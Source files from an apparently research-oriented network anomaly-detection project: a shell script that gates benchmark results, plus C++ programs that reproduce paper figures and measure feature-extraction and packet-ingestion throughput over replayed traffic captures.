[ -n "$SHARD_VS_SQ" ] && [ -n "$SCALING" ] && [ -n "$MULTI_CORE" ] || {
  echo "check_bench: could not parse sharded section from $JSON" >&2
  exit 1
}

if [ "$MULTI_CORE" = "true" ]; then
  # With >= 4 hardware threads the shard consumers run in parallel, so the
  # 4-shard unpaced drain must scale to at least 2x the 1-shard drain.
  if awk -v s="$SCALING" 'BEGIN { exit !(s < 2.0) }'; then
    echo "check_bench: FAIL — 4-shard drain only ${SCALING}x the 1-shard drain (need >= 2.0x on a multi-core host)" >&2
    exit 1
  fi
  echo "check_bench: 4-shard drain ${SCALING}x the 1-shard drain (multi-core host)"
else
  # One core time-slices the shard threads, so scaling is meaningless;
  # instead the routing layer itself must stay cheap: the 1-shard drain
  # must hold at least 0.9x the single-queue drain.
  if awk -v r="$SHARD_VS_SQ" 'BEGIN { exit !(r < 0.9) }'; then
    echo "check_bench: FAIL — sharded drain at ${SHARD_VS_SQ}x of single-queue (need >= 0.9x on a single-core host)" >&2
    exit 1
  fi
  echo "check_bench: sharded drain ${SHARD_VS_SQ}x of single-queue (single-core host)"
fi

if [ "$(json_num "$JSON" sharded_alerts_identical)" != "true" ]; then
  echo "check_bench: FAIL — sharded record stream diverged from the single-queue run" >&2
  exit 1
fi

SWAPS="$(json_num "$JSON" swaps_applied)"
if [ "$(json_num "$JSON" hot_swap_accounted)" != "true" ]; then
  echo "check_bench: FAIL — hot-swap run lost packets" >&2
  exit 1
fi
if awk -v s="${SWAPS:-0}" 'BEGIN { exit !(s < 1) }'; then
  echo "check_bench: FAIL — hot-swap run never applied a deployed scorer (swaps_applied=${SWAPS:-0})" >&2
  exit 1
fi

echo "check_bench: sharded records identical, hot swap applied ${SWAPS}x and accounted"

# --- socket front-end: gateway drain, alert identity, accounting ---------
SOCK_VS_REPLAY="$(json_num "$JSON" socket_vs_replay)"
[ -n "$SOCK_VS_REPLAY" ] || {
  echo "check_bench: could not parse socket section from $JSON" >&2
  exit 1
}

# The gateway adds an epoll loop, framing decode, and a loopback byte copy
# on top of the replay path; that overhead must stay within 20% of the
# in-process drain.
if awk -v r="$SOCK_VS_REPLAY" 'BEGIN { exit !(r < 0.8) }'; then
  echo "check_bench: FAIL — socket drain at ${SOCK_VS_REPLAY}x of replay drain (need >= 0.8x)" >&2
  exit 1
fi

# Alert identity is a correctness gate, not a perf one: the wire carries
# the exact capture index and timestamp, so socket-ingested records must
# match in-process replay bit for bit.
if [ "$(json_num "$JSON" socket_alerts_identical)" != "true" ]; then
  echo "check_bench: FAIL — socket record stream diverged from in-process replay" >&2
  exit 1
fi

if [ "$(json_num "$JSON" socket_accounted)" != "true" ]; then
  echo "check_bench: FAIL — socket run lost frames (per-connection accounting broke)" >&2
  exit 1
fi

echo "check_bench: socket drain ${SOCK_VS_REPLAY}x of replay, records identical, per-connection accounting exact"

# --- bench_ml: batched scoring must not lose to the per-row path ---------
"$BUILD/bench/bench_ml"

ML_JSON="BENCH_ml.json"
[ -f "$ML_JSON" ] || { echo "check_bench: $ML_JSON not produced" >&2; exit 1; }

FAILED=0
FOUND=0
while read -r name speedup; do
  [ -n "$name" ] && [ -n "$speedup" ] || continue
  FOUND=1
  if awk -v s="$speedup" 'BEGIN { exit !(s < 1.0) }'; then
    echo "check_bench: FAIL — $name batched path slower than per-row (${speedup}x)" >&2
    FAILED=1
  fi
done < <(json_named_nums "$ML_JSON" name speedup)
[ "$FOUND" -eq 1 ] || {
  echo "check_bench: no model speedups found in $ML_JSON" >&2
  exit 1
}
[ "$FAILED" -eq 0 ] || exit 1

echo "check_bench: all batched model paths at or above per-row throughput"

# --- bench_telemetry: instrumentation must cost <= 2% of drain rate ------
"$BUILD/bench/bench_telemetry"

TEL_JSON="BENCH_telemetry.json"
[ -f "$TEL_JSON" ] || { echo "check_bench: $TEL_JSON not produced" >&2; exit 1; }

OVERHEAD="$(json_num "$TEL_JSON" overhead_pct)"
[ -n "$OVERHEAD" ] || {
  echo "check_bench: could not parse overhead_pct from $TEL_JSON" >&2
  exit 1
}

if awk -v o="$OVERHEAD" 'BEGIN { exit !(o > 2.0) }'; then
  echo "check_bench: FAIL — telemetry overhead ${OVERHEAD}% exceeds 2%" >&2
  exit 1
fi

echo "check_bench: telemetry overhead ${OVERHEAD}% within the 2% budget"

# --- bench_stream: compiled chain within 1.3x of the bare scorer ---------
"$BUILD/bench/bench_stream"

STREAM_JSON="BENCH_stream.json"
[ -f "$STREAM_JSON" ] || {
  echo "check_bench: $STREAM_JSON not produced" >&2
  exit 1
}

RATIO="$(json_num "$STREAM_JSON" chain_vs_scorer)"
[ -n "$RATIO" ] || {
  echo "check_bench: could not parse chain_vs_scorer from $STREAM_JSON" >&2
  exit 1
}

if awk -v r="$RATIO" 'BEGIN { exit !(r > 1.3) }'; then
  echo "check_bench: FAIL — streaming chain at ${RATIO}x of the bare scorer (budget 1.3x)" >&2
  exit 1
fi

echo "check_bench: streaming chain at ${RATIO}x of the bare scorer, within 1.3x"
