// Figure 1: why an operator cannot compare algorithms today.
//  (a) possible literature-level comparisons per algorithm;
//  (b) measured precision spread when training/testing on the same dataset;
//  (c) the further degradation when training and testing datasets differ.
#include "fig_common.h"

#include "eval/literature.h"

int main() {
  using namespace lumen;
  bench::print_header("Figure 1: the operator's comparison problem");

  // ---- (a) literature-only comparisons.
  std::printf("-- Fig. 1a: possible comparisons from the published record --\n");
  size_t zero = 0;
  const auto comparisons = eval::possible_comparisons();
  for (const auto& [algo, n] : comparisons) {
    std::printf("  %-36.36s %d %s\n", algo.c_str(), n,
                std::string(static_cast<size_t>(n), '#').c_str());
    zero += (n == 0);
  }
  std::printf(
      "\n  %zu of %zu algorithms cannot be compared with ANY other published\n"
      "  algorithm (private datasets, no overlap).\n\n",
      zero, comparisons.size());

  // ---- (b)/(c): a measured subset (connection-level algorithms).
  const std::vector<std::string> algos = {"A10", "A13", "A14", "A15"};
  const std::vector<std::string> datasets = {"F0", "F1", "F4", "F5"};
  bench::Benchmark& bench = bench::shared_benchmark();

  std::printf("-- Fig. 1b: precision, trained and tested on the SAME dataset --\n");
  std::vector<eval::Distribution> same_dists;
  std::map<std::string, std::vector<double>> same, cross;
  for (const std::string& a : algos) {
    for (const std::string& d : datasets) {
      auto run = bench.same_dataset(a, d);
      if (run.ok()) same[a].push_back(run.value().record.precision);
      for (const std::string& d2 : datasets) {
        if (d2 == d) continue;
        auto x = bench.cross_dataset(a, d, d2);
        if (x.ok()) cross[a].push_back(x.value().record.precision);
      }
    }
    same_dists.push_back(eval::Distribution::from(a, same[a]));
  }
  std::printf("%s\n",
              eval::render_distributions("precision (same dataset)", same_dists)
                  .c_str());

  std::printf("-- Fig. 1c: precision, trained and tested on DIFFERENT datasets --\n");
  std::vector<eval::Distribution> cross_dists;
  for (const std::string& a : algos) {
    cross_dists.push_back(eval::Distribution::from(a, cross[a]));
  }
  std::printf(
      "%s\n",
      eval::render_distributions("precision (cross dataset)", cross_dists)
          .c_str());

  // The paper's qualitative claim: wide ranges in (b), worse in (c).
  double same_med = 0.0, cross_med = 0.0;
  for (const auto& d : same_dists) same_med += d.median;
  for (const auto& d : cross_dists) cross_med += d.median;
  same_med /= static_cast<double>(same_dists.size());
  cross_med /= static_cast<double>(cross_dists.size());
  std::printf(
      "Shape check: mean-of-median precision %.2f (same) vs %.2f (cross) —\n"
      "%s the paper's 'cross-dataset degrades further' observation.\n",
      same_med, cross_med,
      cross_med < same_med ? "REPRODUCES" : "DOES NOT reproduce");
  return 0;
}
