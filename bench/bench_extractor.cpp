// Extractor hot-path benchmark: packed-key KitsuneExtractor vs the retired
// string-keyed reference implementation on the same capture, plus a
// capped-eviction run showing the bounded-memory mode. Emits
// BENCH_extractor.json with per-implementation throughput and tracked
// context counts.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <vector>

#include "common/parallel.h"
#include "common/telemetry.h"
#include "core/kitsune_extractor.h"
#include "core/kitsune_extractor_ref.h"
#include "trace/registry.h"

namespace {

using Clock = std::chrono::steady_clock;

constexpr int kReps = 7;  // best-of repetitions per timed configuration

struct RunResult {
  double seconds = 0.0;
  double pkts_per_sec = 0.0;
  size_t tracked = 0;
};

template <typename Extractor, typename Make>
RunResult time_extractor(const lumen::netio::Trace& trace, Make make) {
  RunResult r;
  r.seconds = 1e30;
  std::vector<double> row;
  for (int rep = 0; rep < kReps; ++rep) {
    Extractor ex = make();
    const Clock::time_point t0 = Clock::now();
    for (const auto& view : trace.view) ex.process(view, row);
    const double secs =
        std::chrono::duration<double>(Clock::now() - t0).count();
    if (secs < r.seconds) {
      r.seconds = secs;
      r.tracked = ex.tracked_contexts();
    }
  }
  r.pkts_per_sec = r.seconds > 0.0
                       ? static_cast<double>(trace.view.size()) / r.seconds
                       : 0.0;
  return r;
}

}  // namespace

int main() {
  using namespace lumen;
  std::printf("bench_extractor: per-packet feature extraction hot path\n\n");

  const trace::Dataset ds = trace::make_dataset("P1", 0.6);
  std::printf("capture: P1 x0.6, %zu packets\n", ds.trace.view.size());
  std::printf("threads: %zu (pool), %zu (hardware)\n\n",
              ThreadPool::global().size(), ThreadPool::hardware_threads());

  const RunResult ref = time_extractor<core::ReferenceKitsuneExtractor>(
      ds.trace, [] { return core::ReferenceKitsuneExtractor(); });
  const RunResult packed = time_extractor<core::KitsuneExtractor>(
      ds.trace, [] { return core::KitsuneExtractor(); });
  constexpr size_t kCap = 256;
  const RunResult capped = time_extractor<core::KitsuneExtractor>(
      ds.trace, [] { return core::KitsuneExtractor({}, kCap); });

  const double speedup =
      ref.pkts_per_sec > 0.0 ? packed.pkts_per_sec / ref.pkts_per_sec : 0.0;
  std::printf("%-22s %-10s %-12s %s\n", "implementation", "seconds",
              "pkts/sec", "tracked_contexts");
  std::printf("%-22s %-10.3f %-12.0f %zu\n", "string-keyed (ref)", ref.seconds,
              ref.pkts_per_sec, ref.tracked);
  std::printf("%-22s %-10.3f %-12.0f %zu\n", "packed-key", packed.seconds,
              packed.pkts_per_sec, packed.tracked);
  std::printf("%-22s %-10.3f %-12.0f %zu\n", "packed-key (cap 256)",
              capped.seconds, capped.pkts_per_sec, capped.tracked);
  std::printf("\nspeedup (packed vs ref): %.2fx\n", speedup);

  if (packed.tracked != ref.tracked) {
    std::fprintf(stderr,
                 "tracked_contexts mismatch: packed %zu vs ref %zu\n",
                 packed.tracked, ref.tracked);
    return 1;
  }

  // JSON artifact via the unified telemetry serializer.
  telemetry::json::Writer w;
  w.kv_str("benchmark", "kitsune_extractor");
  w.kv_str("capture", "P1");
  w.kv_u64("packets", ds.trace.view.size());
  w.kv_u64("threads", ThreadPool::global().size());
  w.kv_u64("hardware_threads", ThreadPool::hardware_threads());
  w.kv_i64("reps", kReps);
  const auto impl = [&w](const char* key, const RunResult& r) {
    w.begin_inline_object(key);
    w.kv_f("seconds", r.seconds, 4);
    w.kv_f("pkts_per_sec", r.pkts_per_sec, 1);
    w.kv_u64("tracked_contexts", r.tracked);
    w.end();
  };
  impl("string_keyed", ref);
  impl("packed_key", packed);
  w.begin_inline_object("packed_key_capped");
  w.kv_u64("max_contexts", kCap);
  w.kv_f("seconds", capped.seconds, 4);
  w.kv_f("pkts_per_sec", capped.pkts_per_sec, 1);
  w.kv_u64("tracked_contexts", capped.tracked);
  w.end();
  w.kv_f("speedup", speedup, 3);
  if (std::FILE* f = std::fopen("BENCH_extractor.json", "w")) {
    const std::string doc = w.str();
    std::fwrite(doc.data(), 1, doc.size(), f);
    std::fclose(f);
    std::printf("[artifact] BENCH_extractor.json\n");
  }
  return 0;
}
