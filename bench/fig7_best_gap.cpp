// Figure 7: for every (train, test) pair, the gap between each algorithm's
// precision/recall and the best algorithm's on that pair. A would-be optimal
// algorithm sits at zero everywhere. Prints Observation 1.
#include <map>

#include "fig_common.h"

int main() {
  using namespace lumen;
  bench::print_header("Figure 7: distance from the per-pair best algorithm");

  eval::ResultStore store;
  const std::vector<std::string> algos = bench::all_algorithms();
  bench::sweep_same_dataset(algos, store);
  bench::sweep_cross_dataset(algos, store);

  for (const char* metric : {"precision", "recall"}) {
    // Best score per (train, test) pair.
    std::map<std::pair<std::string, std::string>, double> best;
    for (const auto& row : store.query("", "", "", metric)) {
      auto& b = best[{row.train_ds, row.test_ds}];
      b = std::max(b, row.value);
    }
    // Per-algorithm gap distribution, grouped by granularity like the paper.
    std::vector<eval::Distribution> dists;
    std::map<std::string, size_t> zero_gap_pairs;
    for (const std::string& a : algos) {
      std::vector<double> gaps;
      size_t at_best = 0;
      for (const auto& row : store.query(a, "", "", metric)) {
        const double gap = best[{row.train_ds, row.test_ds}] - row.value;
        gaps.push_back(gap);
        at_best += gap < 1e-9;
      }
      zero_gap_pairs[a] = at_best;
      const core::AlgorithmDef* def = core::find_algorithm(a);
      const std::string tag =
          a + (def->granularity == trace::Granularity::kPacket ? "/pkt"
                                                               : "/flw");
      dists.push_back(eval::Distribution::from(tag, gaps));
    }
    std::printf("%s\n", eval::render_distributions(
                            std::string("Fig. 7 gap-to-best: ") + metric,
                            dists)
                            .c_str());

    // Observation 1: nobody is uniformly best. Like the paper, algorithms
    // that can run on only a handful of pairs (A05, and A06 to a lesser
    // degree) "may seem like good candidates" but don't count — being
    // unbeaten on one dataset is not generality.
    size_t always_best = 0;
    std::string trivially_best;
    for (const std::string& a : algos) {
      const size_t pairs = store.query(a, "", "", metric).size();
      if (pairs == 0 || zero_gap_pairs[a] != pairs) continue;
      if (pairs >= 5) {
        ++always_best;
      } else {
        trivially_best += (trivially_best.empty() ? "" : ", ") + a;
      }
    }
    std::printf(
        "Observation 1 (%s): %zu broadly-runnable algorithms achieve the\n"
        "best %s on every train/test pair — there is no single best\n"
        "algorithm.%s%s\n\n",
        metric, always_best, metric,
        trivially_best.empty()
            ? ""
            : (" (" + trivially_best +
               " only look optimal because they run on <5 pairs, the "
               "paper's A05/A06 caveat.)")
                  .c_str(),
        "");
  }
  auto saved = store.save_csv("results/fig7_runs.csv");
  (void)saved;
  return 0;
}
