// Engine ablation: what the execution engine's memory optimization
// (dead-value elimination, §3.2) buys across the registry's feature
// pipelines, plus the cost of the static type-check pass.
#include <chrono>

#include "fig_common.h"

int main() {
  using namespace lumen;
  bench::print_header("Engine ablation: dead-value elimination & type check");

  const trace::Dataset& ds = bench::shared_benchmark().dataset("P1");
  const trace::Dataset& dsc = bench::shared_benchmark().dataset("F4");

  std::printf("%-6s %-28s %14s %14s %8s\n", "algo", "pipeline", "peak w/ DVE",
              "peak w/o DVE", "saved");
  for (const core::AlgorithmDef& algo : core::algorithm_registry()) {
    const trace::Dataset& use =
        algo.granularity == trace::Granularity::kPacket ? ds : dsc;
    if (!core::compatible(algo, use)) continue;
    auto spec = core::PipelineSpec::parse(algo.feature_template);
    if (!spec.ok()) continue;

    core::Engine::Options with, without;
    without.free_dead_values = false;
    core::OpContext ctx1, ctx2;
    ctx1.dataset = &use;
    ctx2.dataset = &use;
    auto r1 = core::Engine(with).run(spec.value(), ctx1);
    auto r2 = core::Engine(without).run(spec.value(), ctx2);
    if (!r1.ok() || !r2.ok()) continue;
    const double saved =
        r2.value().peak_bytes > 0
            ? 100.0 * (1.0 - static_cast<double>(r1.value().peak_bytes) /
                                 static_cast<double>(r2.value().peak_bytes))
            : 0.0;
    std::printf("%-6s %-28.28s %14zu %14zu %7.1f%%\n", algo.id.c_str(),
                algo.label.c_str(), r1.value().peak_bytes,
                r2.value().peak_bytes, saved);
  }

  // Type-check cost: static analysis is microseconds, i.e. effectively free
  // debugging before any packet is touched.
  core::Engine engine;
  double total = 0.0;
  size_t n = 0;
  for (const core::AlgorithmDef& algo : core::algorithm_registry()) {
    auto spec = core::PipelineSpec::parse(algo.feature_template);
    if (!spec.ok()) continue;
    const auto t0 = std::chrono::steady_clock::now();
    for (int i = 0; i < 200; ++i) {
      auto check = engine.type_check(spec.value());
      (void)check;
    }
    const auto t1 = std::chrono::steady_clock::now();
    total += std::chrono::duration<double>(t1 - t0).count() / 200.0;
    ++n;
  }
  std::printf("\nmean static type-check latency over %zu registry pipelines: "
              "%.1f microseconds\n",
              n, 1e6 * total / static_cast<double>(n));
  return 0;
}
