// Figure 9: per-algorithm precision/recall when trained on one dataset and
// tested on another. Prints Observation 2's cross-dataset half.
#include "fig_common.h"

int main() {
  using namespace lumen;
  bench::print_header("Figure 9: cross-dataset training and testing");

  eval::ResultStore store;
  // A05 runs on a single dataset, so cross-dataset evaluation is undefined
  // for it (paper footnote 3).
  std::vector<std::string> algos;
  for (const std::string& a : bench::all_algorithms()) {
    if (bench::faithful_datasets(a).size() >= 2) algos.push_back(a);
  }
  bench::sweep_cross_dataset(algos, store);

  for (const char* metric : {"precision", "recall"}) {
    std::vector<eval::Distribution> dists;
    for (const std::string& a : algos) {
      std::vector<double> vals;
      for (const auto& row : store.query(a, "", "", metric)) {
        vals.push_back(row.value);
      }
      dists.push_back(eval::Distribution::from(a, vals));
    }
    std::printf("%s\n",
                eval::render_distributions(
                    std::string("Fig. 9 ") + metric + " (cross dataset)", dists)
                    .c_str());
  }
  auto saved = store.save_csv("results/fig9_runs.csv");
  (void)saved;

  size_t low_prec = 0, low_rec = 0;
  for (const std::string& a : algos) {
    bool lp = false, lr = false;
    for (const auto& row : store.query(a, "", "", "precision")) {
      lp |= row.value < 0.2;
    }
    for (const auto& row : store.query(a, "", "", "recall")) {
      lr |= row.value < 0.2;
    }
    low_prec += lp;
    low_rec += lr;
  }
  std::printf(
      "Observation 2 (cross-source half): precision of %zu/%zu and recall of\n"
      "%zu/%zu algorithms drops below 20%% on at least one train/test pair\n"
      "(paper: 16/16 for both) — no algorithm survives domain shift intact.\n",
      low_prec, algos.size(), low_rec, algos.size());
  return 0;
}
