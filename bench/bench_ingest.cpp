// Gateway ingestion throughput benchmark: drives the IngestRuntime over the
// P1 (Mirai) capture with a trained OnlineKitsune per consumer, sweeping the
// consumer count; checks that paced and unpaced replay of the same capture
// alert identically; and stresses a multi-consumer run over a
// fault-injecting source. Emits BENCH_ingest.json.
#include <chrono>
#include <cstdio>
#include <memory>
#include <vector>

#include "core/ingest.h"
#include "core/stream.h"
#include "netio/source.h"
#include "trace/registry.h"

namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}

struct ConfigResult {
  size_t consumers = 0;
  double seconds = 0.0;
  double pkts_per_sec = 0.0;
  lumen::core::IngestStats stats;
};

}  // namespace

int main() {
  using namespace lumen;
  std::printf("bench_ingest: gateway ingestion runtime throughput\n\n");

  const trace::Dataset ds = trace::make_dataset("P1", 0.4);
  const size_t grace = ds.trace.view.size() * 45 / 100;
  const size_t streamed = ds.trace.view.size() - grace;
  std::printf("capture: P1 x0.4, %zu packets (%zu grace / %zu streamed)\n",
              ds.trace.view.size(), grace, streamed);

  core::OnlineKitsune proto;
  proto.train({ds.trace.view.data(), grace});
  std::printf("trained OnlineKitsune prototype (threshold %.4f)\n\n",
              proto.threshold());

  auto kitsune_factory = [&proto](size_t) {
    return std::make_unique<core::KitsuneScorer>(proto);
  };
  netio::ReplayOptions rest;
  rest.begin = grace;

  // Throughput sweep: scored packets per second at 1/2/4 consumers.
  std::vector<ConfigResult> configs;
  std::printf("%-10s %-10s %-12s %-8s %s\n", "consumers", "seconds",
              "pkts/sec", "alerts", "queue_high_water");
  for (size_t consumers : {1u, 2u, 4u}) {
    netio::TraceReplaySource src(ds.trace, rest);
    core::IngestRuntime::Options opts;
    opts.consumers = consumers;
    core::IngestRuntime rt(opts, kitsune_factory, nullptr);
    const Clock::time_point t0 = Clock::now();
    auto stats = rt.run(src);
    const double secs = seconds_since(t0);
    if (!stats.ok()) {
      std::fprintf(stderr, "ingest: %s\n", stats.error().message.c_str());
      return 1;
    }
    ConfigResult r;
    r.consumers = consumers;
    r.seconds = secs;
    r.pkts_per_sec = secs > 0.0 ? static_cast<double>(stats.value().scored) / secs
                                : 0.0;
    r.stats = stats.value();
    configs.push_back(r);
    std::printf("%-10zu %-10.3f %-12.0f %-8llu %zu\n", consumers, secs,
                r.pkts_per_sec,
                static_cast<unsigned long long>(r.stats.alerted),
                r.stats.queue_high_water);
  }

  // Determinism: paced replay (sped up, sleeps clamped) must produce the
  // same alert count as unpaced replay — pacing only changes arrival
  // timing, never what gets scored. One consumer keeps capture order.
  auto alert_count = [&](bool pace) -> long long {
    netio::ReplayOptions opts = rest;
    opts.pace = pace;
    opts.speed = 2000.0;
    opts.max_sleep = 0.0005;
    netio::TraceReplaySource src(ds.trace, opts);
    core::CollectingSink sink;
    core::IngestRuntime rt(core::IngestRuntime::Options{}, kitsune_factory,
                           &sink);
    auto stats = rt.run(src);
    if (!stats.ok()) return -1;
    return static_cast<long long>(stats.value().alerted);
  };
  const long long unpaced_alerts = alert_count(false);
  const long long paced_alerts = alert_count(true);
  const bool deterministic =
      unpaced_alerts >= 0 && unpaced_alerts == paced_alerts;
  std::printf("\npaced vs unpaced alerts: %lld vs %lld (%s)\n", paced_alerts,
              unpaced_alerts, deterministic ? "identical" : "MISMATCH (BUG)");

  // Fault stress: multi-consumer run over a truncating/corrupting/
  // reordering source with a lossy queue. Parse skips are expected; the
  // runtime must account for every packet.
  netio::TraceReplaySource inner(ds.trace, rest);
  netio::FaultOptions faults;
  faults.truncate_p = 0.05;
  faults.corrupt_p = 0.05;
  faults.reorder_p = 0.05;
  faults.seed = 7;
  netio::FaultInjectingSource faulty(inner, faults);
  core::IngestRuntime::Options fopts;
  fopts.consumers = 2;
  fopts.queue_capacity = 512;
  fopts.overflow = core::OverflowPolicy::kDropOldest;
  core::IngestRuntime frt(fopts, kitsune_factory, nullptr);
  auto fstats_r = frt.run(faulty);
  if (!fstats_r.ok()) {
    std::fprintf(stderr, "fault ingest: %s\n", fstats_r.error().message.c_str());
    return 1;
  }
  const core::IngestStats fstats = fstats_r.value();
  const bool fault_accounted =
      fstats.scored + fstats.parse_skipped == fstats.enqueued - fstats.dropped;
  std::printf(
      "fault run (2 consumers, drop-oldest): enqueued=%llu dropped=%llu "
      "parse_skipped=%llu scored=%llu alerted=%llu (%s)\n",
      static_cast<unsigned long long>(fstats.enqueued),
      static_cast<unsigned long long>(fstats.dropped),
      static_cast<unsigned long long>(fstats.parse_skipped),
      static_cast<unsigned long long>(fstats.scored),
      static_cast<unsigned long long>(fstats.alerted),
      fault_accounted ? "accounted" : "LEAK (BUG)");

  if (std::FILE* f = std::fopen("BENCH_ingest.json", "w")) {
    std::fprintf(f,
                 "{\n"
                 "  \"benchmark\": \"ingest_runtime\",\n"
                 "  \"capture\": \"P1\",\n"
                 "  \"streamed_packets\": %zu,\n"
                 "  \"configs\": [\n",
                 streamed);
    for (size_t i = 0; i < configs.size(); ++i) {
      const ConfigResult& r = configs[i];
      std::fprintf(f,
                   "    {\"consumers\": %zu, \"seconds\": %.4f, "
                   "\"pkts_per_sec\": %.1f, \"scored\": %llu, "
                   "\"alerted\": %llu}%s\n",
                   r.consumers, r.seconds, r.pkts_per_sec,
                   static_cast<unsigned long long>(r.stats.scored),
                   static_cast<unsigned long long>(r.stats.alerted),
                   i + 1 < configs.size() ? "," : "");
    }
    std::fprintf(f,
                 "  ],\n"
                 "  \"paced_alerts\": %lld,\n"
                 "  \"unpaced_alerts\": %lld,\n"
                 "  \"paced_deterministic\": %s,\n"
                 "  \"fault_run\": {\"enqueued\": %llu, \"dropped\": %llu, "
                 "\"parse_skipped\": %llu, \"scored\": %llu, "
                 "\"alerted\": %llu, \"accounted\": %s}\n"
                 "}\n",
                 paced_alerts, unpaced_alerts,
                 deterministic ? "true" : "false",
                 static_cast<unsigned long long>(fstats.enqueued),
                 static_cast<unsigned long long>(fstats.dropped),
                 static_cast<unsigned long long>(fstats.parse_skipped),
                 static_cast<unsigned long long>(fstats.scored),
                 static_cast<unsigned long long>(fstats.alerted),
                 fault_accounted ? "true" : "false");
    std::fclose(f);
    std::printf("[artifact] BENCH_ingest.json\n");
  }
  return (deterministic && fault_accounted) ? 0 : 1;
}
